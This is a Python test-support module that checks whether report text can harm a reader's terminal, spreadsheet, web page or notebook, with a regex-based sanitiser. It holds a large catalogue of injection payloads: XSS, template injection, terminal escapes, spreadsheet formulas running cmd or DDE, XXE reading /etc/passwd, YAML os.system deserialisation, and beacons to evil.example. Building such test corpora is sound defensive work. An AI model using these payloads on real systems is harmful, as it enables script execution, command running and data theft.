"""What a text of a report must not do to a reader's terminal, spreadsheet, page or notebook."""

from __future__ import annotations

import re

# Controls but line ends and tabs, bidirectional overrides and what hides text.
FORBIDDEN = re.compile(
    "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ufeff"
    "\ud800-\udfff]"
)
SGR = re.compile("\x1b\\[[0-9;]*m")

# By what they aim at. What would run sets `owned`, opens a dialogue or asks for an address.
PAYLOADS: dict[str, tuple[str, ...]] = {
    "script": (
        "<script>owned = 1</script>",
        "</script><script>owned = 1</script>",
        "<!--<script>owned = 1//-->",
        "<!-- --!><script>owned = 1</script>",
        "</SCRIPT ><sCrIpT/x>window.owned = 1</sCrIpT>",
        "<<script>script>owned = 1<</script>/script>",
        "<script src=//evil.example/a.js></script>",
        "<script type=module>import 'https://evil.example/m.js'</script>",
        "<noscript><p title='</noscript><script>owned = 1</script>'>",
        "';owned=1;//\";owned=1;//`;owned=1;//",
        '\\";owned=1;//',
        "${owned=1} `${window.owned=1}`",
        "javascript:owned=1//",
        "eval(atob('b3duZWQ9MQ=='))",
        "constructor.constructor('owned=1')()",
        "__proto__ [constructor] hasOwnProperty",
    ),
    "attribute": (
        "<img src=x onerror=owned=1>",
        "<img src='https://evil.example/pixel.gif'>",
        "<body onload=owned=1>",
        "<details open ontoggle=owned=1>",
        "<input autofocus onfocus=owned=1>",
        "<a href='javascript:owned=1'>press</a>",
        "<button form=tools formaction=javascript:owned=1>x",
        "<video><source onerror=owned=1></video>",
        "<marquee onstart=owned=1>",
        '" autofocus onfocus=owned=1 x="',
        "' onmouseover='owned=1",
        "x onclick=owned=1 y=",
        '"><svg onload=owned=1>',
        "'></option></select><img src=x onerror=owned=1>",
        "`onfocus=owned=1 tabindex=0`",
        "&quot; onfocus=owned=1 &#34;&#x3e;&lt;b&gt;",
        "&lt;script&gt;owned=1&lt;/script&gt;",
        "&#60;img src=x onerror=owned=1&#62;",
    ),
    "markup": (
        "</li></ol></section></main></body></html>",
        "<iframe srcdoc='<script>parent.owned=1</script>'></iframe>",
        "<object data=//evil.example/x></object><embed src=//evil.example>",
        "<base href=//evil.example/>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<link rel=stylesheet href=//evil.example/a.css>",
        "<form id=tools action=//evil.example><input name=q>",
        "<template><img src=x onerror=owned=1></template>",
        "<textarea><title><plaintext><xmp>",
        "<table><tr><td></table><caption><col>",
        "<b id=data>{}</b><a id=tools><a id=tools name=reset>",
        "<p id=desk><i id=coder>",
        "<del>kept</del><ins>added</ins><mark id=changes>here</mark>",
        "<!doctype html><frameset><!-- <![CDATA[",
        "<?php echo 7*7 ?><% 7*7 %><?xml version='1.0'?>",
        "--> ]]> ?> %> }} %} #}",
    ),
    "foreign": (
        "<svg onload=owned=1>",
        "<svg><script>owned=1</script></svg>",
        "<svg><script href='data:text/javascript,owned=1'/></svg>",
        "<svg><a xlink:href='javascript:owned=1'><text>x</text></a></svg>",
        "<svg><animate onbegin=owned=1 attributeName=x dur=1s>",
        "<svg><use href='//evil.example/x.svg#a'/></svg>",
        "<svg><style><img src=x onerror=owned=1></style></svg>",
        "<svg><foreignObject><body onload=owned=1></foreignObject>",
        "</text></svg><img src=x onerror=owned=1>",
        "<math><mtext><table><mglyph><style><img src=x onerror=owned=1>",
        "<math href='javascript:owned=1'><mi>x</mi></math>",
        "<math><annotation-xml encoding=text/html><img src=x onerror=owned=1>",
    ),
    "style": (
        "</style><script>owned=1</script>",
        "<style>*{display:none}</style>",
        "<style>@import '//evil.example/a.css';</style>",
        "<p style='background:url(//evil.example/b)'>",
        "x: expression(owned=1)",
        "} body { display: none } a {",
        "*/ @import url(//evil.example/c.css); /*",
        "<div style=position:fixed;inset:0;z-index:9>cover</div>",
    ),
    "template": (
        "{{7*7}}",
        "{{ config.items() }}{{ ''.__class__.__mro__ }}",
        "{% for x in range(9) %}x{% endfor %}",
        "{% raw %}{# gone #}{% include 'page.css' %}",
        "{{ page.id|safe }}{{ self }}",
        "<%= 7*7 %>#{7*7}@(7*7)[[7*7]]",
        "%s %(owned)s {0} {0.__class__} $owned ${7*7}",
    ),
    "hidden": (
        "safe\u202egnp.exe",
        "\u2066\u2067\u2068turned\u2069 \u202dforced\u202c",
        "\u061cmark\u200e\u200f",
        "no\u200bbreak\u2060here\ufeff",
        "\U000e0041\U000e0042 tagged",
        "\u180evowel\u034fjoined",
        "\ufff9over\ufffabase\ufffb",
        "\ufdd0\ufffe\uffff no characters",
        "nul\x00inside",
        "back\x08\x08\x08\x08space",
        "\x7f\x80\x9f old controls",
        "\x0bupright\x0cfeed\x85next\x1cfile",
        "over\rwritten",
        "line\u2028end\u2029paragraph",
        "tab\tstop\nnew line\r\nend",
    ),
    "terminal": (
        "\x1b[31mred\x1b[0m",
        "\x1b[2J\x1b[Hcleared",
        "\x1b]0;owned\x07",
        "\x1b]8;;https://evil.example\x1b\\press\x1b]8;;\x1b\\",
        "\x1b]52;c;b3duZWQ=\x07",
        "\x9b31m\x9d0;owned\x9c",
        "\x1bP$q\x1b\\ \x1b_x\x1b\\ \x1bc",
        "\x1b[?1049h\x1b[6n\x05",
        "\x0e shifted \x0f",
        "[31mhalf a code[0m",
    ),
    "formula": (
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1:A9)",
        '=HYPERLINK("https://evil.example";"press")',
        "=cmd|'/C calc'!A0",
        '=DDE("cmd";"/C calc";"x")',
        '=IMPORTXML(CONCAT("//evil.example/";A1);"//a")',
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "\u00a0=1+1",
        "\uff1d1\uff0b1",
        "\uff0b1",
        "\uff0d1",
        "\uff20SUM(A1)",
        '"=1+1"',
        '";=1+1;"',
        "a,b;c\td|e",
        '"",""\r\n=1+1,"',
    ),
    "markdown": (
        "[press](javascript:owned=1)",
        "![pixel](https://evil.example/p.gif)",
        "[a]: https://evil.example 'x' [a][a]",
        "<https://evil.example> https://evil.example www.evil.example",
        "mailto:me@evil.example @everyone @owner #1 GH-1",
        "a | b | c\n|---|---|\n| d |",
        "# heading\n## heading\n===",
        "- item\n1. item\n* item\n+ item",
        "> quoted\n>> twice",
        "```\ncode\n```\n~~~",
        "`code` ``code`` *a* **b** _c_ __d__ ~~e~~",
        "---\n***\n___",
        "    indented\n\ttoo",
        "$x$ $$y$$ \\(z\\) \\[w\\]",
        "\\| \\` \\\\ \\<b\\> &copy; &#124;",
        ":smile: [x] [^1] [[wiki]] ==mark==",
    ),
    "xml": (
        '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>&b;',
        '<!ENTITY x SYSTEM "file:///etc/passwd">&x;',
        "<![CDATA[x]]>]]>&amp;&undefined;&#0;&#xffff;",
        "</data></node></graph></graphml>",
        '"/><node id="x"/><edge source="x" target="x"/>',
        "<xi:include href='file:///etc/passwd'/>",
    ),
    "data": (
        "\\u003c/script\\u003e \\x3c \\074",
        '"}]}, "owned": 1, "x": "',
        "null, true, NaN, -Infinity, 1e999",
        "!!python/object/apply:os.system [x]",
        "&anchor *anchor << : {a: b} [c] # d",
        "no: yes\n- off\n--- \n...",
        "| \n  block\n> folded",
        "%YAML 1.1\n? key\n: 0o17 12:30:45 ~ 2026-01-31",
        "'single' \"double\" \\ back\\",
    ),
    "long": (
        "w" * 3000,
        "\u0627\u0644\u0645\u062f\u064a\u0646\u0629 \u0644\u0646 \u062a\u0632\u0631\u0639",
        "\u05e2\u05d9\u05e8 (\u05d9\u05e8\u05d5\u05e7\u05d4) 80 > 65",
        "e" + "\u0301" * 400,
        "\u5317\u4eac" * 300,
        "\U0001f468\u200d\U0001f469\u200d\U0001f467 \u2764\ufe0f",
        "\uff1cscript\uff1eowned=1\uff1c/script\uff1e",
        "../../../etc/passwd \\\\evil.example\\share C:\\con file:///etc",
    ),
}
ALL = tuple(text for texts in PAYLOADS.values() for text in texts)
# Halves of surrogate pairs: no text file holds one, the name of a file may.
HALVES = ("half \ud800", "\udfff\ud800 turned", "\udc80=1+1")

_SPACE = re.compile(r"\s")
_MARKUP = '<>&"`={}[]()|*#~^@+\\!;?_'
# Signs that neither a parser nor the alignment of two wordings treats in a way of its own.
_QUIET = {ord(sign): chr(0x2190 + at) for at, sign in enumerate(_MARKUP)}


def forbidden_in(text: str, *, colour: bool = False) -> list[str]:
    """The signs that must not be there; with ``colour`` our own colour codes are let pass."""
    return FORBIDDEN.findall(SGR.sub("", text) if colour else text)


def quieten(text: str) -> str:
    """A text of the same words and shape in which nothing is left that could do harm.

    What is made of the text and of its quiet twin differs in nothing but letters.
    """

    def still(found: re.Match[str]) -> str:
        return " " if _SPACE.match(found[0]) else "\u00b7"

    safe = FORBIDDEN.sub(still, text).translate(_QUIET)
    return safe.replace("'", "\u2019").replace(":", ".").replace("/", ".").replace("-", ".")
